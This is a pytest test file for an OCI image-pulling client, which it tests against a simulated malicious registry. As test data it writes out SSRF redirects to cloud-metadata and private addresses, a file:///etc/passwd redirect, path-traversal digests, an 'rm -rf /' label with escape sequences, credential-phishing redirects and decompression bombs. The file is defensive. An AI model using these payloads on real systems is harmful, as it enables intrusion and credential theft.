"""Registries that lie, leak and phish: nothing false is kept, and nobody learns a secret.

Two servers: the registry, which needs a login, and an evil host, which records what it is sent.
ROWS says for each attack that is known which test makes it, here or elsewhere.
"""

from __future__ import annotations

import gzip
import json
import re
import socket
import ssl
import subprocess
import sys
import tarfile
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any, Final

import pytest
import test_access
import test_challenge
import test_commands
import test_faults
import test_guard
import test_nested
import test_push
from asker import Asker
from images import tar_of
from recorder import Answer, Answers, Recorder, Request, answering, hurried

from imgkit.__main__ import main
from imgkit.client import Client, Exchange
from imgkit.client.credentials import Credentials, Login
from imgkit.config import Config
from imgkit.digest import Digest
from imgkit.errors import (
    DigestMismatch,
    ImgkitError,
    InvalidLayer,
    InvalidManifest,
    InvalidReference,
    LimitExceeded,
    NoMatchingPlatform,
    NotFound,
    RegistryError,
    SizeMismatch,
    Unauthorized,
    Unreachable,
    UnsupportedMediaType,
)
from imgkit.image import copy, verify
from imgkit.manifest import (
    OCI_CONFIG,
    OCI_INDEX,
    OCI_LAYER,
    OCI_MANIFEST,
    Descriptor,
    Manifest,
)
from imgkit.platforms import Platform
from imgkit.reference import Reference
from imgkit.server import Registry, transport
from imgkit.store import Store

if sys.version_info >= (3, 14):
    from compression import zstd
else:
    from backports import zstd

TAR: Final = tar_of({"etc/motd": b"hello"})
LOGIN: Final = Login("me", "hunter2")
SECRETS: Final = ("hunter2", LOGIN.basic[6:], "our-token", "Authorization")
MIB: Final = 1 << 20


def blob(data: bytes, media_type: str) -> dict[str, Any]:
    return {"mediaType": media_type, "digest": str(Digest.of(data)), "size": len(data)}


class Bait:
    """An honest image in a registry with tokens; each row of the table spoils one thing of it."""

    def __init__(self, server: Recorder, evil: Recorder) -> None:
        self.server = server
        self.evil = evil
        self.layer = gzip.compress(TAR, mtime=0)
        self.config: dict[str, Any] = {
            "os": "linux",
            "architecture": "amd64",
            "rootfs": {"type": "layers", "diff_ids": [str(Digest.of(TAR))]},
            "history": [{"created_by": "COPY"}],
        }
        self.manifest: dict[str, Any] = {"schemaVersion": 2, "mediaType": OCI_MANIFEST}
        self.more: Answers = {}
        self.headers: dict[str, str] = {"Content-Type": OCI_MANIFEST}
        self.target = ":tag"
        self.patience = hurried()
        self.challenge = f'Bearer realm="{server.url}/token",service="s"'

    @property
    def blob_path(self) -> str:
        return f"/v2/app/blobs/{Digest.of(self.layer)}"

    @property
    def config_path(self) -> str:
        return f"/v2/app/blobs/{Digest.of(self.raw_config)}"

    @property
    def raw_config(self) -> bytes:
        return json.dumps(self.config).encode()

    def document(self) -> dict[str, Any]:
        parts = {
            "config": blob(self.raw_config, OCI_CONFIG),
            "layers": [blob(self.layer, OCI_LAYER + "+gzip")],
        }
        return self.manifest | {key: parts[key] for key in parts if key not in self.manifest}

    def lay(self) -> None:
        """Afterwards the server answers for this image."""
        raw = json.dumps(self.document()).encode()
        refusal: Answer = (401, {"WWW-Authenticate": self.challenge}, b"")
        self.server.answers |= {
            "/v2/": refusal,
            "/token": (200, {}, b'{"token":"our-token"}'),
            "/v2/app/manifests/tag": (200, self.headers, raw),
            f"/v2/app/manifests/{Digest.of(raw)}": (200, self.headers, raw),
            self.config_path: (200, {}, self.raw_config),
            self.blob_path: (200, {}, self.layer),
        } | self.more
        self.evil.answers |= {"/token": (200, {}, b'{"token":"our-token"}')}

    def pull(self, store: Store, notes: list[Exchange] | None = None) -> None:
        reference = Reference.parse(f"{self.server.host}/app{self.target}")
        client = Client(
            credentials=Credentials({self.server.host: LOGIN}),
            patience=self.patience,
            on_exchange=(notes if notes is not None else []).append,
        )
        try:
            copy(client.repository(reference), store, reference)
        finally:
            client.session.close()


# -- each row spoils one thing ----------------------------------------------------------------


def nothing(bait: Bait) -> None:
    pass


def foreign_urls(bait: Bait) -> None:
    layer = blob(bait.layer, OCI_LAYER + "+gzip") | {"urls": [f"{bait.evil.url}/layer"]}
    bait.manifest["layers"] = [layer]


def foreign_only(bait: Bait) -> None:
    foreign_urls(bait)
    bait.more[bait.blob_path] = (404, {}, b"")


def blob_elsewhere(bait: Bait) -> None:
    bait.evil.answers["/layer"] = (200, {}, bait.layer)
    bait.more[bait.blob_path] = (307, {"Location": f"{bait.evil.url}/layer"}, b"")


def cut_off_elsewhere(bait: Bait) -> None:
    half = len(bait.layer) // 2
    bait.evil.answers["/layer"] = [
        (200, {"Content-Length": str(len(bait.layer))}, [bait.layer[:half]]),
        (200, {}, bait.layer),
    ]
    bait.more[bait.blob_path] = (307, {"Location": f"{bait.evil.url}/layer"}, b"")


def elsewhere_asks_for_a_login(bait: Bait) -> None:
    refusal = {"WWW-Authenticate": f'Bearer realm="{bait.evil.url}/token"'}
    bait.evil.answers["/layer"] = (401, refusal, b"")
    bait.more[bait.blob_path] = (307, {"Location": f"{bait.evil.url}/layer"}, b"")


def elsewhere_asks_for_a_password(bait: Bait) -> None:
    bait.evil.answers["/layer"] = (401, {"WWW-Authenticate": "Basic realm=x"}, b"")
    bait.more[bait.blob_path] = (307, {"Location": f"{bait.evil.url}/layer"}, b"")


def sent_to(location: str) -> Callable[[Bait], None]:
    def spoil(bait: Bait) -> None:
        bait.more[bait.blob_path] = (307, {"Location": location}, b"")

    return spoil


def realm(address: str) -> Callable[[Bait], None]:
    def spoil(bait: Bait) -> None:
        bait.challenge = f'Bearer realm="{address}"'

    return spoil


def token_service_sends_on(location: str) -> Callable[[Bait], None]:
    def spoil(bait: Bait) -> None:
        bait.more["/token"] = (307, {"Location": location}, b"")

    return spoil


def manifest_at(location: str) -> Callable[[Bait], None]:
    def spoil(bait: Bait) -> None:
        bait.more["/v2/app/manifests/tag"] = (307, {"Location": location}, b"")

    return spoil


def token_service_at_evil(bait: Bait) -> None:
    bait.more["/token"] = (307, {"Location": f"{bait.evil.url}/token"}, b"")


def huge_manifest(bait: Bait) -> None:
    bait.manifest["annotations"] = {"a": "x" * 4 * MIB}


def endless_manifest(bait: Bait) -> None:
    bait.more["/v2/app/manifests/tag"] = lambda request: (200, {}, (b" " * MIB for _ in range(99)))


def huge_config(bait: Bait) -> None:
    bait.config["author"] = "x" * 4 * MIB


def huge_token(bait: Bait) -> None:
    bait.more["/token"] = (200, {}, b'{"token":"' + b"x" * MIB + b'"}')


def huge_error(bait: Bait) -> None:
    body = b'{"errors":[{"code":"X","message":"' + b"x" * 10 * MIB + b'"}]}'
    bait.more["/v2/app/manifests/tag"] = (400, {}, body)


def manifest(**fields: Any) -> Callable[[Bait], None]:
    return lambda bait: bait.manifest.update(fields)


def config(**fields: Any) -> Callable[[Bait], None]:
    return lambda bait: bait.config.update(fields)


def header(key: str, value: str) -> Callable[[Bait], None]:
    return lambda bait: bait.headers.update({key: value})


def raw_manifest(raw: bytes) -> Callable[[Bait], None]:
    def spoil(bait: Bait) -> None:
        bait.more["/v2/app/manifests/tag"] = (200, bait.headers, raw)

    return spoil


def raw_config(raw: bytes) -> Callable[[Bait], None]:
    def spoil(bait: Bait) -> None:
        bait.manifest["config"] = blob(raw, OCI_CONFIG)
        bait.more[f"/v2/app/blobs/{Digest.of(raw)}"] = (200, {}, raw)

    return spoil


def layer(**fields: Any) -> Callable[[Bait], None]:
    def spoil(bait: Bait) -> None:
        bait.manifest["layers"] = [blob(bait.layer, OCI_LAYER + "+gzip") | fields]

    return spoil


def another_than_asked(bait: Bait) -> None:
    other = Digest.of(b"other")
    bait.target = f"@{other}"
    raw = json.dumps(bait.document()).encode()
    headers = {"Docker-Content-Digest": str(other), "Content-Type": OCI_MANIFEST}
    bait.more[f"/v2/app/manifests/{other}"] = (200, headers, raw)


def body(headers: dict[str, str], change: Callable[[bytes], Any]) -> Callable[[Bait], None]:
    def spoil(bait: Bait) -> None:
        bait.more[bait.blob_path] = lambda request: (200, headers, change(bait.layer))

    return spoil


def too_many_layers(bait: Bait) -> None:
    bait.manifest["layers"] = [blob(bait.layer, OCI_LAYER + "+gzip")] * 126


AMD64: Final = {"os": "linux", "architecture": "amd64"}


def lay_index(bait: Bait, entries: list[dict[str, Any]]) -> dict[str, Any]:
    """The descriptor of an index of these, which the registry now has, also as `tag`."""
    raw = json.dumps({"schemaVersion": 2, "mediaType": OCI_INDEX, "manifests": entries}).encode()
    made = blob(raw, OCI_INDEX)
    answer: Answer = (200, {"Content-Type": OCI_INDEX}, raw)
    bait.more |= {f"/v2/app/manifests/{made['digest']}": answer, "/v2/app/manifests/tag": answer}
    return made | {"urls": [f"{bait.evil.url}/index"]}


def honest(bait: Bait) -> dict[str, Any]:
    return blob(json.dumps(bait.document()).encode(), OCI_MANIFEST) | {"platform": AMD64}


def wide_index(bait: Bait) -> None:
    lay_index(bait, [blob(b"x", OCI_MANIFEST) | {"platform": AMD64}] * 1001)


def deep_index(bait: Bait) -> None:
    at = honest(bait)
    for _ in range(30):
        at = lay_index(bait, [at])


def many_indexes(bait: Bait) -> None:
    arm = blob(b"x", OCI_MANIFEST) | {"platform": {"os": "linux", "architecture": "arm64"}}
    lay_index(bait, [lay_index(bait, [arm] * n) for n in range(1, 102)])


def one_index_many_times(bait: Bait) -> None:
    arm = blob(b"x", OCI_MANIFEST) | {"platform": {"os": "linux", "architecture": "arm64"}}
    lay_index(bait, [*[lay_index(bait, [arm])] * 900, lay_index(bait, [honest(bait)])])


def other_platforms(bait: Bait) -> None:
    odd = {"os": "evil\x1b[2J", "architecture": "\x1b]0;x\x07", "variant": "\u202e"}
    lay_index(bait, [blob(b"x", OCI_MANIFEST) | {"platform": odd}])


def drops(bait: Bait) -> Answer:
    """A layer that comes byte after byte, with a pause after each."""
    bait.patience = replace(hurried(), window=0.3, tries=2)
    bait.layer += bytes(100)
    pieces = (piece for byte in bait.layer for piece in (bytes([byte]), 0.02))
    return 200, {"Content-Length": str(len(bait.layer))}, pieces


def trickling(bait: Bait) -> None:
    answer = drops(bait)
    bait.more[bait.blob_path] = lambda request: answer


def trickling_elsewhere(bait: Bait) -> None:
    bait.evil.answers["/layer"] = drops(bait)
    bait.more[bait.blob_path] = (307, {"Location": f"{bait.evil.url}/layer"}, b"")


def stalling(bait: Bait) -> None:
    bait.patience = replace(hurried(), silence=0.1, tries=2)
    headers = {"Content-Length": str(len(bait.layer))}
    bait.more[bait.blob_path] = (200, headers, [bait.layer[:9], 1.0])


HARMLESS: list[Callable[[Bait], None]] = [
    nothing,
    foreign_urls,
    blob_elsewhere,
    cut_off_elsewhere,
    token_service_at_evil,
    header("Docker-Content-Digest", str(Digest.of(b"a lie"))),
    header("Docker-Content-Digest", "nonsense"),
    header("Content-Type", "application/json"),
    config(history=[]),
    config(history=[{}] * 9),
    config(config={"Labels": {"a": "\x1b[31m; rm -rf /"}}),
    manifest(Layers=[]),  # other tools read this key as "layers"; it is another one
    body({"Content-Length": "999999"}, lambda data: [data]),
    body({}, lambda data: [data]),
    body({"Content-Encoding": "identity"}, lambda data: data),
    one_index_many_times,
]

# What is spoilt, the error, and in its words what was expected and what came.
REFUSED: list[tuple[Callable[[Bait], None], type[ImgkitError], str, str]] = [
    (foreign_only, NotFound, "has no blobs", "sha256:"),
    (elsewhere_asks_for_a_login, Unauthorized, "without a login", "EVIL"),
    (elsewhere_asks_for_a_password, Unauthorized, "without a login", "EVIL"),
    (sent_to("http://10.0.0.1/x"), RegistryError, "over http to another", "http://10.0.0.1/x"),
    (sent_to("https://10.0.0.1/x"), RegistryError, "private network", "https://10.0.0.1/x"),
    (sent_to("https://169.254.169.254/"), RegistryError, "private network", "169.254.169.254/"),
    (sent_to("https://[fd00::1]/x"), RegistryError, "private network", r"\[fd00::1\]"),
    (sent_to("http://example.com/x"), RegistryError, "another machine", "http://example.com/x"),
    (sent_to("file:///etc/passwd"), RegistryError, "only http", "file:///etc/passwd"),
    (sent_to("https://me:pw@example.com/"), RegistryError, "user name", "example.com"),
    (sent_to("//10.0.0.1/x"), RegistryError, "over http to another", "http://10.0.0.1/x"),
    (realm("http://10.0.0.1/token"), RegistryError, "over http to another", "http://10.0.0.1/"),
    (realm("https://10.0.0.1/token"), RegistryError, "private network", "https://10.0.0.1/"),
    (realm("https://0.0.0.0/token"), RegistryError, "private network", "https://0.0.0.0/"),
    (realm("http://example.com/token"), RegistryError, "another machine", "http://example.com/"),
    (realm("gopher://example.com"), RegistryError, "only http", "gopher://example.com"),
    (token_service_sends_on("http://10.0.0.1/"), RegistryError, "over http to", "http://10.0"),
    (token_service_sends_on("https://169.254.169.254/"), RegistryError, "private", "169.254"),
    (manifest_at("http://example.com/"), RegistryError, "another machine", "http://example.com/"),
    (manifest_at("https://10.0.0.1/"), RegistryError, "private network", "https://10.0.0.1/"),
    (huge_manifest, LimitExceeded, "more than 4194304 bytes", "manifests/tag from SERVER"),
    (endless_manifest, LimitExceeded, "more than 4194304 bytes", "manifests/tag from SERVER"),
    (huge_config, LimitExceeded, "more than 4194304 is not read", "4194514 bytes"),
    (huge_token, LimitExceeded, "more than 1048576 bytes", "the token from"),
    (huge_error, RegistryError, "v2/app/manifests/tag", "answered 400"),
    (manifest(manifests=[]), InvalidManifest, "only one is allowed", "and as an index"),
    (manifest(fsLayers=[]), InvalidManifest, "only one is allowed", "as an index"),
    (manifest(mediaType=OCI_INDEX), InvalidManifest, "as .*image.manifest", "itself .*image.index"),
    (header("Content-Type", OCI_INDEX), InvalidManifest, "itself .*image.man", "as .*image.index"),
    (header("Content-Type", "text/html"), InvalidManifest, "itself .*image.man", "as text/html"),
    (header("Content-Type", "text/\x1b[2J"), InvalidManifest, "itself .*image.man", r"text/\\x1b"),
    (manifest(schemaVersion=1), UnsupportedMediaType, "by its digest", "schema 1"),
    (raw_manifest(b'{"schemaVersion":2,"schemaVersion":2}'), InvalidManifest, "twice", "schemaVer"),
    (raw_manifest(b'{"layers":[],"a":{"b":1,"b":2}}'), InvalidManifest, "twice", "'b'"),
    (raw_manifest(b'{"schemaVersion":NaN}'), InvalidManifest, "not JSON", "NaN"),
    (raw_manifest(b"[" * 100_000), InvalidManifest, "not JSON", "recursion|deep"),
    (raw_manifest(b"\xff"), InvalidManifest, "not JSON: 'utf-8'", "0xff"),
    (raw_config(b'{"os":"linux","os":"windows"}'), InvalidManifest, "twice", "'os'"),
    (
        layer(digest="sha256:../../../etc/passwd"),
        InvalidManifest,
        "64 lower-case hex",
        "'sha256:../",
    ),
    (layer(digest="../x"), InvalidManifest, "must begin with sha256", "'../x'"),
    (layer(size=-1), InvalidManifest, "must be a number of bytes", "not -1"),
    (layer(size=1 << 80), InvalidManifest, "must be a number of bytes", f"not {1 << 80}"),
    (layer(size=True), InvalidManifest, "must be a number of bytes", "not True"),
    (layer(size=5), SizeMismatch, "must have 5 bytes", "at least 104 came"),
    (layer(size=MIB), SizeMismatch, "must have 1048576 bytes", "only 104 came"),
    (layer(mediaType="text/html"), UnsupportedMediaType, "can be unpacked", "text/html"),
    (another_than_asked, DigestMismatch, "asked for sha256:d9298", "have the digest sha256:"),
    (body({}, lambda data: data + b"x"), SizeMismatch, "must have 104 bytes", "at least 105 came"),
    (body({}, lambda data: data[:-1]), SizeMismatch, "must have 104 bytes", "only 103 came"),
    (body({}, lambda data: b""), SizeMismatch, "must have 104 bytes", "only 0 came"),
    (body({"Content-Length": "9"}, lambda data: data[:9]), SizeMismatch, "104 bytes", "only 9"),
    (body({"Content-Length": "-1"}, lambda data: data[:9]), SizeMismatch, "104 bytes", "only 9"),
    (body({"Content-Length": "99"}, lambda data: data[:9]), Unreachable, "90 more", "after 9"),
    (body({"Content-Encoding": "gzip"}, gzip.compress), RegistryError, "its digest", "gzip"),
    (body({"Content-Encoding": "gzip"}, lambda data: data), RegistryError, "its digest", "gzip"),
    (body({"Content-Encoding": "\x1b[2J"}, bytes), RegistryError, "its digest", "x1b"),
    (
        body({}, lambda data: bytes([data[0] ^ 1]) + data[1:]),
        DigestMismatch,
        "asked for sha256:2d0e5a",
        "have the digest sha256:97f09e",
    ),
    (config(rootfs={"type": "layers", "diff_ids": []}), InvalidManifest, "1 layers", "0 DiffIDs"),
    (
        config(rootfs={"type": "layers", "diff_ids": [str(Digest.of(TAR))] * 2}),
        InvalidManifest,
        "1 layers",
        "2 DiffIDs",
    ),
    (config(rootfs={"type": "other", "diff_ids": []}), InvalidManifest, "'layers'", "'other'"),
    (config(rootfs={"type": "layers", "diff_ids": ["../x"]}), InvalidManifest, "begin", "'../x'"),
    (too_many_layers, LimitExceeded, "at most 125", "126 layers"),
    (wide_index, LimitExceeded, "at most 1000", "1001 manifests"),
    (deep_index, LimitExceeded, "over 8 deep", "the index sha256:"),
    (many_indexes, LimitExceeded, "over 100 in all", "the index sha256:"),
    (other_platforms, NoMatchingPlatform, "linux/amd64", r"evil\\x1b"),
    (trickling, Unreachable, "at least 1024 a second", "too slowly: [0-9]+ bytes"),
    (trickling_elsewhere, Unreachable, "at least 1024 a second", "too slowly: [0-9]+ bytes"),
    (stalling, Unreachable, "stopped in the middle", "after 9 bytes"),
]


def name_of(spoil: Any) -> str:
    return getattr(spoil, "__qualname__", str(spoil)).partition(".")[0]


def check(store: Store, evil: Recorder) -> None:
    """Every blob has its true name, nothing lies about, and the evil host knows no secret.

    What has come of a blob that broke off may wait to be gone on with.
    """
    for path in (store.home / "blobs").rglob("*"):
        if path.is_file():
            assert Digest.of(path.read_bytes(), path.parent.name).hex == path.name
    ingest = store.home / "ingest"
    assert not ingest.exists() or not list(ingest.glob("[!s]*"))  # sha256-..., not a true name
    told = [secret for secret in SECRETS if any(secret in str(r) for r in evil.received)]
    assert told == []


@pytest.fixture
def servers(monkeypatch: pytest.MonkeyPatch) -> Iterator[tuple[Recorder, Recorder]]:
    """The registry and the evil host, to which every other address in the world leads as well."""
    with answering({}) as server, answering({}) as evil:
        look_up, port = socket.getaddrinfo, int(evil.host.rpartition(":")[2])

        def led_astray(host: Any, to: Any, *more: Any, **options: Any) -> Any:
            if host in ("127.0.0.1", "localhost"):
                return look_up(host, to, *more, **options)
            evil.received.append(Request(f"looked up: {host}", {}, "CONNECT", b""))
            return look_up("127.0.0.1", port, *more, **options)

        monkeypatch.setattr(socket, "getaddrinfo", led_astray)
        yield server, evil


Servers = tuple[Recorder, Recorder]


def check_words(error: object, servers: Servers, *words: str) -> None:
    """An error says what was expected and what came, in one line that steers nothing."""
    server, evil = servers
    text = str(error).replace(server.host, "SERVER").replace(evil.host, "EVIL")
    assert [word for word in words if not re.search(word, text)] == [], text
    assert text.isprintable()
    assert not any(secret in text for secret in SECRETS)


@pytest.mark.parametrize("spoil", HARMLESS, ids=name_of)
def test_harmless(spoil: Callable[[Bait], None], servers: Servers, tmp_path: Path) -> None:
    """What is odd but harmless is pulled, sound, and no document is asked for often."""
    store = Store(tmp_path / "store")
    server, evil = servers
    bait = Bait(server, evil)
    spoil(bait)
    bait.lay()
    bait.pull(store)
    assert verify(store.image(f"{server.host}/app:tag")) == []
    check(store, evil)
    asked = Counter(path for path in server.paths() if "/manifests/" in path)
    assert max(asked.values()) <= 2  # when it is looked for, and when it is kept


@pytest.mark.parametrize(("spoil", "error", "expected", "came"), REFUSED, ids=name_of)
def test_refused(
    spoil: Callable[[Bait], None],
    error: type[ImgkitError],
    expected: str,
    came: str,
    servers: Servers,
    tmp_path: Path,
) -> None:
    """What lies or phishes is refused, in words that say what came; nothing of it is kept."""
    store = Store(tmp_path / "store")
    server, evil = servers
    bait = Bait(server, evil)
    spoil(bait)
    bait.lay()
    with pytest.raises(error) as caught:
        bait.pull(store)
    assert store.records() == []
    check(store, evil)
    check_words(caught.value, servers, expected, came)
    assert set(evil.paths()) <= {"/layer"}  # where a row leads there on purpose


def test_bytes_after_the_end(servers: Servers, tmp_path: Path) -> None:
    """A layer that is what its digest says, but goes on after its end, is refused when read."""
    store = Store(tmp_path / "store")
    server, evil = servers
    bait = Bait(server, evil)
    bait.layer += b"more"
    bait.lay()
    bait.pull(store)
    image = store.image(f"{server.host}/app:tag")
    (problem,) = verify(image)
    with pytest.raises(InvalidLayer) as caught:
        image.layers[0].recompute_diff_id()
    check_words(problem, servers, "gzip", "after")
    check_words(caught.value, servers, "gzip", "after")
    check(store, evil)


def test_a_false_header_is_noted(servers: Servers, tmp_path: Path) -> None:
    """A tag's `Docker-Content-Digest` that is not the digest of the bytes is told."""
    store, notes = Store(tmp_path / "store"), list[Exchange]()
    server, evil = servers
    bait = Bait(server, evil)
    lie = Digest.of(b"a lie")
    bait.headers["Docker-Content-Digest"] = str(lie)
    bait.lay()
    bait.pull(store, notes)
    true = store.image(f"{server.host}/app:tag").digest
    (note,) = {exchange.note for exchange in notes if exchange.note}
    check_words(note, servers, f"says {lie}", f"the bytes are {true}")
    assert not store.has(Descriptor(OCI_MANIFEST, lie, 0))
    check(store, evil)


def test_a_netrc_is_not_read_after_a_redirect(
    servers: Servers, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A ~/.netrc that has a password for the evil host does not make us show it there."""
    (tmp_path / ".netrc").write_text("machine 127.0.0.1 login me password hunter2\n")
    monkeypatch.setenv("NETRC", str(tmp_path / ".netrc"))
    store = Store(tmp_path / "store")
    server, evil = servers
    bait = Bait(server, evil)
    elsewhere_asks_for_a_password(bait)
    bait.lay()
    with pytest.raises(Unauthorized) as caught:
        bait.pull(store)
    assert evil.paths() == ["/layer"]
    assert store.records() == []
    check(store, evil)
    check_words(caught.value, servers, "EVIL without a login", "401")


# -- from https down to http ------------------------------------------------------------------


@pytest.fixture
def tls_servers(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> Iterator[tuple[Recorder, Recorder]]:
    """A registry over https, whose certificate is believed; an evil host over http."""
    key, certificate = tmp_path / "key.pem", tmp_path / "certificate.pem"
    new = "openssl req -x509 -newkey rsa:2048 -nodes -days 2 -subj /CN=registry"
    more = ["-addext", "subjectAltName=IP:127.0.0.1", "-keyout", key, "-out", certificate]
    subprocess.run([*new.split(), *more], check=True, capture_output=True)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(certificate, key)
    monkeypatch.setenv("REQUESTS_CA_BUNDLE", str(certificate))
    with answering({}, context) as server, answering({}) as evil:
        yield server, evil


def manifest_at_evil(bait: Bait) -> None:
    manifest_at(f"{bait.evil.url}/layer")(bait)


def realm_at_evil(bait: Bait) -> None:
    realm(f"{bait.evil.url}/token")(bait)


def itself_over_http(bait: Bait) -> None:
    sent_to(f"http://{bait.server.host}{bait.blob_path}")(bait)


DOWN: Final = [
    blob_elsewhere,
    manifest_at_evil,
    realm_at_evil,
    token_service_at_evil,
    itself_over_http,
]


@pytest.mark.peer("openssl")
@pytest.mark.parametrize("spoil", DOWN, ids=name_of)
def test_down_to_http(spoil: Callable[[Bait], None], tls_servers: Servers, tmp_path: Path) -> None:
    """Whoever is asked over https sends us nowhere that is asked over http."""
    store = Store(tmp_path / "store")
    server, evil = tls_servers
    bait = Bait(server, evil)
    spoil(bait)
    bait.lay()
    with pytest.raises(RegistryError) as caught:
        bait.pull(store)
    assert store.records() == []
    check(store, evil)
    assert evil.received == []
    check_words(caught.value, tls_servers, "from https down to http", "'http://(EVIL|SERVER)/")


@pytest.mark.peer("openssl")
def test_https_to_the_end(tls_servers: Servers, tmp_path: Path) -> None:
    """The same registry is pulled from as long as it sends us nowhere."""
    store = Store(tmp_path / "store")
    bait = Bait(*tls_servers)
    foreign_urls(bait)
    bait.lay()
    bait.pull(store)
    assert verify(store.image(f"{bait.server.host}/app:tag")) == []
    assert bait.evil.received == []


BOMBS: Final = [(gzip.compress, "gzip"), (zstd.compress, "zstd")]


@pytest.mark.parametrize(("pack", "kind"), BOMBS)
def test_a_bomb_comes_but_does_not_go_off(
    pack: Callable[[bytes], bytes], kind: str, tmp_path: Path
) -> None:
    """A small layer that unpacks to very much is what its digest says; reading it is given up."""
    header = tarfile.TarInfo("zeros")
    header.size = 32 * 64 * MIB
    store = Store(tmp_path / "store")
    with answering({}) as server, answering({}) as evil:
        bait = Bait(server, evil)
        bait.layer = pack(header.tobuf()) + pack(bytes(64 * MIB)) * 32 + pack(bytes(1024))
        bait.manifest["layers"] = [blob(bait.layer, f"{OCI_LAYER}+{kind}")]
        bait.lay()
        bait.pull(store)
        check(store, evil)
        image = store.image(f"{server.host}/app:tag")
        with pytest.raises(LimitExceeded, match="bomb") as caught:
            image.layers[0].recompute_diff_id()
        check_words(
            caught.value,
            (server, evil),
            "more than 200 for one",
            "[0-9]+ compressed bytes .* gave [0-9]{9}",
        )
        assert any("bomb" in str(problem) for problem in verify(image))


def test_an_error_does_not_steer(servers: Servers, tmp_path: Path) -> None:
    """What a registry says of an error is told in one line, and no escape sequence is left."""
    said = {"code": "DENIED", "message": "\x1b[2J\x1b]0;title\x07no\r\nentry\u202e"}
    store = Store(tmp_path / "store")
    server, evil = servers
    bait = Bait(server, evil)
    bait.more["/v2/app/manifests/tag"] = (400, {}, json.dumps({"errors": [said]}).encode())
    bait.lay()
    with pytest.raises(RegistryError) as caught:
        bait.pull(store)
    check_words(caught.value, servers, "SERVER answered 400", "It says: .*noentry")
    assert store.records() == []
    check(store, evil)


# -- lists in pages ---------------------------------------------------------------------------

TAGS = "/v2/app/tags/list"


def page(tags: list[Any], link: str | None = None) -> Answer:
    return 200, {"Link": link} if link else {}, json.dumps({"name": "app", "tags": tags}).encode()


def lay_pages(bait: Bait, answers: Answers, path: str = TAGS) -> None:
    """Afterwards a list comes in these pages, to who shows the token."""
    put_in = {"SERVER": bait.server.url, "EVIL": bait.evil.url, "HOST": bait.server.host}

    def answer(request: Request) -> Answer:
        if request.headers.get("Authorization") != "Bearer our-token":
            return 401, {"WWW-Authenticate": bait.challenge}, b""
        found = answers.get(request.path.removeprefix(path), (404, {}, b""))
        assert isinstance(found, tuple)
        headers = dict(found[1])
        for word, text in put_in.items():
            if "Link" in headers:
                headers["Link"] = headers["Link"].replace(word, text)
        return found[0], headers, found[2]

    bait.more[path] = answer
    bait.lay()


def listed(answers: Answers, servers: Servers) -> tuple[Any, list[str]]:
    """The tags, or the error; what the registry was asked."""
    bait = Bait(*servers)
    lay_pages(bait, answers)
    credentials = Credentials({bait.server.host: LOGIN})
    client = Client(credentials=credentials, patience=hurried())
    try:
        found: Any = client.repository(Reference.parse(f"{bait.server.host}/app")).tags()
    except ImgkitError as error:
        found = error
    finally:
        client.session.close()
    asked = [r.path for r in bait.server.received if r.path.startswith(TAGS)]
    return found, [path.removeprefix(TAGS) for path in asked]


PAGES: list[tuple[Answers, list[str], list[str]]] = [
    ({"": page([])}, [], [""]),
    ({"": (200, {}, b'{"name":"app","tags":null}')}, [], [""]),
    ({"": page(["a", "b"])}, ["a", "b"], [""]),
    (
        {
            "": page(["a"], f'<{TAGS}?last=a>; rel="next"'),
            "?last=a": page(["a", "b"], f"<SERVER{TAGS}?last=b>;rel=next"),
            "?last=b": page(["c"]),
        },
        ["a", "b", "c"],
        ["", "?last=a", "?last=b"],
    ),
    ({"": page(["a"], "<?last=a>; rel=next"), "?last=a": page(["b"])}, ["a", "b"], ["", "?last=a"]),
    ({"": page(["a"], '<EVIL/>; rel="prev"')}, ["a"], [""]),
    ({"": page(["a"], "nonsense")}, ["a"], [""]),
]

# Pages, and what the error says: what was expected and what came.
BAD_PAGES: list[tuple[Answers, str, str]] = [
    ({"": page(["tag"], '<EVIL/v2/app/tags/list>; rel="next"')}, "elsewhere", "http://EVIL/v2/app"),
    ({"": page(["tag"], "<//me@HOST/>; rel=next")}, "a user name", "me@SERVER"),
    ({"": page(["tag"], '<https://10.0.0.1/>; rel="next"')}, "private network", "10.0.0.1"),
    ({"": page(["tag"], '<http://example.com/>; rel="next"')}, "another machine", "example.com"),
    ({"": page(["tag"], "<>; rel=next")}, "list of tags", "round in a circle"),
    (
        {"": page(["tag"], "<?last=a>; rel=next"), "?last=a": page([], "<?last=a>; rel=next")},
        "list of tags",
        "round in a circle",
    ),
    ({"": page(["tag", "\x1b[31m"])}, "is not a tag", r"'.x1b\[31m'"),
    ({"": page(["tag", "../x"])}, "is not a tag", r"'\.\./x'"),
    ({"": page(["tag", 5])}, "tags must be a list of strings", ""),
    ({"": (200, {}, b'{"tags":{}}')}, "must be a list", "an object"),
    ({"": (200, {}, b" " * 5 * MIB)}, "more than 4194304 bytes", "tags/list from SERVER"),
]


@pytest.mark.parametrize(("answers", "tags", "asked"), PAGES)
def test_pages(answers: Answers, tags: list[str], asked: list[str], servers: Servers) -> None:
    """All pages are read, in order, with the token, and each tag is told once."""
    assert listed(answers, servers) == (tags, asked)
    assert servers[1].received == []


@pytest.mark.parametrize(("answers", "expected", "came"), BAD_PAGES)
def test_bad_pages(
    answers: Answers,
    expected: str,
    came: str,
    servers: Servers,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capfd: pytest.CaptureFixture[str],
) -> None:
    """Of a list that leads elsewhere or in a circle, or lies, nothing is pulled: `pull -a`."""
    bait = Bait(*servers)
    lay_pages(bait, answers)
    login = {"auths": {bait.server.host: {"auth": LOGIN.basic.removeprefix("Basic ")}}}
    (tmp_path / "config.json").write_text(json.dumps(login))
    monkeypatch.setenv("DOCKER_CONFIG", str(tmp_path))
    monkeypatch.setenv("IMGKIT_HOME", str(tmp_path / "store"))
    assert main(["pull", "-a", f"{bait.server.host}/app"]) == 1
    store = Store(tmp_path / "store")
    assert store.records() == []
    check(store, bait.evil)
    assert bait.evil.received == []
    told = capfd.readouterr().err.rstrip("\n")
    check_words(told, servers, expected, came)
    assert any(LOGIN.basic in r.headers.values() for r in bait.server.received)


def test_pull_all(servers: Servers, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The same, of an honest list: what the rows above refuse is no fault of the bait."""
    bait = Bait(*servers)
    lay_pages(bait, {"": page(["tag"])})
